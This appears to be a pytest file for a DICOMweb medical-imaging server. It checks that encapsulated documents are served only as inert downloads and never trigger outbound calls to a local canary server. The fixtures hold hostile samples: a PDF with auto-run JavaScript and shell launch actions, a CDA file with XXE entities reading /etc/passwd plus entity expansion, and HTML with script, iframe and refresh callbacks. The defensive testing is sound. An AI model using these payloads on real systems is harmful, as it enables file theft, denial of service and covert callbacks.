"""Documents inside of DICOM that would call home: kept and given out as bytes, opened by nobody on the way."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
from playwright.async_api import Error, Page
from pydicom import uid

from tests.conftest import NewPage
from tests.server.house import Answer, Caller, House

PDF, CDA = str(uid.EncapsulatedPDFStorage), str(uid.EncapsulatedCDAStorage)
NO_PIXELS = dict.fromkeys(
    (
        *("PixelData", "Rows", "Columns", "SamplesPerPixel", "PhotometricInterpretation"),
        *("BitsAllocated", "BitsStored", "HighBit", "PixelRepresentation"),
    )
)
MARK = b"only the document itself says this"
KINDS = ("pdf", "cda", "html", "lie")
# What a browser that navigates asks for, what a plug-in would, and what a program would.
ACCEPTS = (
    *("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/pdf", "text/html"),
    *("application/xml, text/xml", "image/svg+xml,image/*;q=0.9", "multipart/related", "*/*"),
)
TOLD = (
    *("application/dicom", "application/octet-stream", "application/dicom+json", "application/problem+json"),
    *("multipart/related", "application/json"),
)


@dataclass
class Canary:
    """A web server that nobody has a reason to call."""

    url: str = ""
    calls: list[str] = field(default_factory=list)

    async def take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.calls.append((await reader.readline()).decode(errors="replace"))
        writer.close()


@pytest.fixture
async def canary() -> AsyncIterator[Canary]:
    one = Canary()
    server = await asyncio.start_server(one.take, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"GET /is-it-awake HTTP/1.1\r\n\r\n")
    assert await reader.read() == b""
    writer.close()
    assert one.calls, "it would hear"
    one.calls.clear()
    one.url = f"http://127.0.0.1:{port}"
    yield one
    server.close()
    await server.wait_closed()


def a_pdf(url: str) -> bytes:
    """Script and a launch as soon as it is opened, and a form that sends itself."""
    return f"""%PDF-1.7
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA <</WC 5 0 R>> >> endobj
2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA <</O 6 0 R>> >> endobj
4 0 obj <</S /JavaScript /JS (app.launchURL\\("{url}/js", true\\); this.submitForm\\("{url}/form"\\);)>> endobj
5 0 obj <</S /Launch /F (/bin/sh) /Win <</F (cmd.exe) /P (/c start {url}/launch)>> >> endobj
6 0 obj <</S /URI /URI ({url}/uri)>> endobj
trailer <</Root 1 0 R>>
%%EOF
""".encode()


def a_cda(url: str) -> bytes:
    """Entities from outside, a stylesheet from outside, and entities that grow."""
    return f"""<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="{url}/style.xsl"?>
<!DOCTYPE ClinicalDocument SYSTEM "{url}/doctype.dtd" [
<!ENTITY % more SYSTEM "{url}/parameter.dtd"> %more;
<!ENTITY away SYSTEM "{url}/entity"><!ENTITY file SYSTEM "file:///etc/passwd">
<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude">
<title>&away;&file;&c;</title><xi:include href="{url}/include"/>
<component><nonXMLBody><text><reference value="{url}/reference"/></text></nonXMLBody></component>
</ClinicalDocument>
""".encode()


def a_page(url: str) -> bytes:
    return f"""<!doctype html><meta http-equiv="refresh" content="0;url={url}/refresh"><img src="{url}/img">
<script src="{url}/script"></script><iframe src="{url}/frame"></iframe>""".encode()


async def stored(house: House, kind: str, url: str) -> tuple[str, int]:
    """The address of an instance below a DICOMweb root, and the number of its study."""
    content = {"pdf": a_pdf, "cda": a_cda, "html": a_page, "lie": a_page}[kind](url)
    content += b"\n<!-- " + MARK + b" " + b"." * 2000 + b" -->"
    study = f"2.25.96{next(house.numbers)}"
    number = await house.a_study(
        "L",
        study,
        SOPClassUID=CDA if kind == "cda" else PDF,
        Modality="DOC",
        DocumentTitle=f'<img src="{url}/title">',
        StudyDescription=f"<link rel=stylesheet href={url}/css>",
        RetrieveURL=f"{url}/retrieve",
        MIMETypeOfEncapsulatedDocument={"cda": "text/XML", "html": "text/html"}.get(kind, "application/pdf"),
        EncapsulatedDocument=content + b"\0" * (len(content) % 2),
        EncapsulatedDocumentLength=len(content),
        **NO_PIXELS,
    )
    return f"/studies/{study}/series/{study}.1/instances/{study}.1.1", number


def addresses(instance: str) -> list[str]:
    study = "/".join(instance.split("/")[:3])
    series = "/".join(instance.split("/")[:5])
    tails = ("", "/metadata", "/rendered", "/thumbnail")
    return [
        *(path + tail for path in (study, series, instance) for tail in tails),
        *(f"{instance}{tail}" for tail in ("/bulkdata/00420011", "/frames/1", "/frames/1/rendered")),
        *(f"{instance}?accept={accept}" for accept in ("application/pdf", "text/html", "text/xml")),
        *(f"{instance}/bulkdata/00420011?accept={accept}" for accept in ("application/pdf", "*/*")),
        f"{study}/instances?includefield=all",
    ]


def is_inert(got: Answer, address: str) -> None:
    """A browser saves it or shows nothing: no plug-in, no script, no style, no frame."""
    media = got.headers["Content-Type"].partition(";")[0].lower()
    assert got.status in (200, 404, 406, 422), (address, got.status)
    assert media in TOLD, (address, media)
    assert got.headers["X-Content-Type-Options"] == "nosniff", address
    policy = got.headers["Content-Security-Policy"]
    assert "sandbox;" in policy, (address, policy)
    assert "default-src 'none'" in policy, (address, policy)
    assert "script-src" not in policy, (address, policy)
    if MARK in got.body:
        assert got.headers["Content-Disposition"] == "attachment", address
        assert media in ("application/dicom", "application/octet-stream", "multipart/related"), address
        assert b"Content-Type: text/" not in got.body, address
        assert b"Content-Type: application/pdf" not in got.body, address


async def look(house: House, by: Caller, root: str, instance: str) -> int:
    """Ask for all there is of an instance in many words; how often the document was in the answer."""
    given = 0
    for address in addresses(instance):
        for accept in ACCEPTS:
            got = await by.get(root + address, headers={"Accept": accept})
            is_inert(got, address)
            given += MARK in got.body
        in_turn = await by.get(root + address, headers={"Accept": "*/*", "Connection": "close"})
        is_inert(in_turn, address)
    return given


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.filterwarnings("ignore::UserWarning")  # pydicom says that such values are none
async def test_a_document_that_calls_home_is_given_out_as_bytes_alone(
    kind: str, house: House, canary: Canary
) -> None:
    instance, number = await stored(house, kind, canary.url)
    doctor = await house.by("doctor.L")
    assert await look(house, doctor, "/dicom-web", instance) >= 10
    case = await house.a_consultation("scheduled", study_ids=(number,))
    expert = await house.by("specialist.P")
    root = f"/consultations/{case}/dicom-web"
    assert await look(house, expert, root, instance) >= 10
    for address in (f"/images/studies/{number}", f"/consultations/{case}/images/studies/{number}"):
        got = await (doctor if address.startswith("/images") else expert).get(address)
        assert got.status == 200
        assert MARK not in got.body
    assert canary.calls == []


async def opened(page: Page, address: str) -> bool:
    """Go there as a person would who was sent the address; whether the browser showed something."""
    try:
        async with page.expect_download(timeout=10_000) as waiting:
            with pytest.raises(Error, match=r"Download is starting|ERR_ABORTED"):
                await page.goto(address)
        await (await waiting.value).cancel()
    except TimeoutError:
        return True
    return False


@pytest.mark.filterwarnings("ignore::UserWarning")
async def test_a_browser_saves_such_documents_and_pages_that_list_them_call_nobody(
    own_house: House, canary: Canary, new_page: NewPage
) -> None:
    house = own_house
    files = [await stored(house, kind, canary.url) for kind in KINDS]
    case = await house.a_consultation("scheduled", study_ids=tuple(number for _, number in files))
    page = await new_page()
    cookies = (await house.by("doctor.L")).cookies.items()
    await page.context.add_cookies(
        [{"name": key, "value": value, "url": house.url} for key, value in cookies]
    )
    for address in ("/inbox", f"/consultations/{case}", f"/consultations/{case}/reading"):
        answer = await page.goto(house.url + address, wait_until="networkidle")
        assert answer is not None
        assert answer.status == 200, address
    for instance, _ in files:
        for tail in ("?accept=application/dicom", "", "/bulkdata/00420011"):
            assert not await opened(page, f"{house.url}/dicom-web{instance}{tail}"), (instance, tail)
    assert canary.calls == []
